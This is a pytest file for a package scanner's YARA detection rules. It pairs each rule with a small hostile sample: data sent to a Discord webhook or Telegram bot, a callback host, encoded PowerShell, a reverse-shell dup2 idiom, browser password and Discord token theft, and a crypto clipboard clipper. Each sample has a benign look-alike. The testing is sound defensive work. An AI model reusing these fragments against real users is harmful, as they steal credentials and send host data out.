"""Each rule of the pack: a harmless sample that it finds, and a look-alike of clean code that it leaves alone.

The samples are texts that nobody executes; hosts are reserved names, tokens are made up.
"""

from __future__ import annotations

import re

import pytest

from wharfinger_daemon.checks.archive_structure import ArchiveStructureCheck
from wharfinger_daemon.checks.yara_rules import YaraRulesCheck
from wharfinger_daemon.scanning import archives
from wharfinger_daemon.scanning.plugin import Anomaly, Check, Member
from wharfinger_daemon.scanning.weights import WEIGHTS

CHECK = YaraRulesCheck()
HOOK = "https://discord.com/api/webhooks/" + "1" * 18 + "/" + "a" * 68
BLOB = "QUJD" * 120

FOUND = {
    "discord-webhook-harvest": "import socket, getpass\n"
    f"url = '{HOOK}'\n"
    "requests.post(url, json=[socket.gethostname(), getpass.getuser()])",
    "telegram-harvest": f"u = 'https://api.telegram.org/bot12345678:{'a' * 35}/sendMessage'\n"
    "x = [socket.gethostname(), getpass.getuser()]",
    "callback-host-with-host-data": "import socket, requests\n"
    "requests.get('https://abcdefgh12.oast.fun/' + socket.gethostname())",
    "encoded-powershell-from-python": f"import subprocess\nsubprocess.Popen('powershell -nop -EncodedCommand {BLOB}')",
    "reverse-shell-idiom": "s = socket.socket()\n"
    "os.dup2(s.fileno(), 0)\n"
    "os.dup2(s.fileno(), 1)\n"
    "subprocess.call(['/bin/sh', '-i'])",
    "named-obfuscator": f"# Obfuscated with BlankOBF\nexec(decode('{BLOB}'))",
    "off-screen-code": "import os" + " " * 200 + ";exec(print('hello'))",
    "browser-credential-theft": "a = '\\\\Login Data'\n"
    "b = 'Local State'\n"
    "c = j['encrypted_key']\n"
    "d = CryptUnprotectData(c)\n"
    ""
    "q = 'SELECT origin_url, password_value FROM logins'\nrequests.post('https://example.invalid', q)",
    "discord-token-theft": "p = r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}'\n"
    "d = '\\\\Local Storage\\\\leveldb'\n"
    "lightcord = 1",
    "clipboard-wallet-clipper": "while True:\n"
    "    c = pyperclip.paste()\n"
    "    if re.match('^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$', c) or "
    "re.match('^0x[a-fA-F0-9]{40}$', c):\n"
    "        pyperclip.copy('x')",
}

LOOK_ALIKES = {
    "discord library": "WEBHOOK = 'https://discord.com/api/webhooks/'\n"
    "class Webhook:\n"
    f"    'Such as {HOOK}'\n"
    "    requests.post(WEBHOOK)",
    "telegram library": "BASE = 'https://api.telegram.org/bot'\nuser = getpass.getuser()\nhost = socket.gethostname()",
    "test of a callback": "SAMPLE = 'https://webhook.site/01234567-89ab'\nprint(SAMPLE)",
    "powershell helper": "subprocess.run(['powershell', '-Command', 'Get-Process'])",
    "dup2 for a daemon": "s = socket.socket()\nos.dup2(devnull.fileno(), 0)\nos.dup2(devnull.fileno(), 1)",
    "terminal": "pty.spawn(['/bin/sh'])\nsocket.socket()",
    "obfuscator that is spoken of": "RULES = ['BlankOBF', 'Hyperion']\nexec('1')",
    "long table": "X = [1," + " " * 200 + "2]\nexec('1')",
    "long comment": "x = 1" + " " * 200 + "# exec(this)",
    "cookie reader": "a = 'Local State'\nc = j['encrypted_key']\nd = CryptUnprotectData(c)\nrequests.post('x')",
    "token format": "TOKEN = re.compile(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}')",
    "clipboard library": "def f():\n    x = pyperclip.paste()\n    pyperclip.copy(x)\nwhile True:\n    pass",
    "address validation": "BTC = '^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$'\nETH = '^0x[a-fA-F0-9]{40}$'",
}


# Rules that only add to others have their own samples, in test_yara_signals.py.
SIGNALS = {
    name.replace("_", "-")
    for text in CHECK.rule_texts
    if b"Signals:" in text
    for name in re.findall(r"^rule (\w+)", text.decode(), re.MULTILINE)
}


def found(source: str | bytes, name: str = "pkg/module.py") -> list[tuple[str, int]]:
    content = source.encode() if isinstance(source, str) else source
    evidence = CHECK.member(Member(name, content))
    return [(each.rule, each.line) for each in evidence if each.rule not in SIGNALS]


@pytest.mark.parametrize(("rule", "source"), FOUND.items(), ids=FOUND.keys())
def test_the_technique_is_found(rule: str, source: str) -> None:
    assert [rule] == [name for name, _ in found(source)]


@pytest.mark.parametrize("source", LOOK_ALIKES.values(), ids=LOOK_ALIKES.keys())
def test_the_look_alike_is_left_alone(source: str) -> None:
    assert [] == found(source)


def test_every_rule_has_a_sample_a_description_and_a_weight() -> None:
    texts = b"".join(CHECK.rule_texts).decode()
    names = [name.replace("_", "-") for name in re.findall(r"^rule (\w+)", texts, re.MULTILINE)]
    assert sorted({*FOUND, *SIGNALS}) == sorted(names)
    assert len(names) == len(re.findall(r"^    description = \"[A-Z][^\"]+\.\"$", texts, re.MULTILINE))
    assert sorted(names) == sorted(rule for check, rule in WEIGHTS if check == "yara-rules")


def test_the_line_is_that_of_the_first_matched_text() -> None:
    assert [("encoded-powershell-from-python", 3)] == found("\n\n" + FOUND["encoded-powershell-from-python"])


def test_a_member_in_a_nested_archive_is_examined_too() -> None:
    assert found(FOUND["off-screen-code"], "a.zip!/b/Module.PY")
    assert found(FOUND["discord-webhook-harvest"], "pkg/data.txt")


@pytest.mark.parametrize("name", ["README.md", "index.html", "lib.so", "icon.png", "a.yar", "a.pyc", "no_suffix"])
@pytest.mark.parametrize("prefix", [b"", b"\x7fELF\0", b"\x89PNG\r\n\x1a\n\0"], ids=["text", "program", "image"])
def test_no_kind_of_member_is_passed_over(name: str, prefix: bytes) -> None:
    """A payload needs no name that Python runs: the code that reads it is elsewhere."""
    content = prefix + FOUND["discord-webhook-harvest"].encode()
    assert [("discord-webhook-harvest", 1)] == [(rule, 1) for rule, _ in found(content, name)]


def test_off_screen_code_counts_in_python_only() -> None:
    assert [] == found(FOUND["off-screen-code"], "pkg/table.txt")


def test_undecodable_bytes_are_no_crash() -> None:
    assert [] == found(bytes(range(1, 256)) * 10)


def test_anomalies_become_findings_one_for_one() -> None:
    check = ArchiveStructureCheck()
    anomalies = [Anomaly("path-traversal", "It leads outside.", "../x"), Anomaly("trailing-data", "More follows.")]
    assert [("path-traversal", "It leads outside.", "../x"), ("trailing-data", "More follows.", "")] == [
        (evidence.rule, evidence.message, evidence.member) for evidence in check.anomalies(anomalies)
    ]


def test_every_anomaly_that_the_opener_knows_has_a_weight() -> None:
    documented = re.findall(r"^    ([a-z]+(?:-[a-z]+)+|polyglot)  ", str(archives.__doc__), re.MULTILINE)
    assert sorted(documented) == sorted(rule for check, rule in WEIGHTS if check == "archive-structure")


def test_built_in_checks_are_checks() -> None:
    for check in (CHECK, ArchiveStructureCheck()):
        assert isinstance(check, Check)
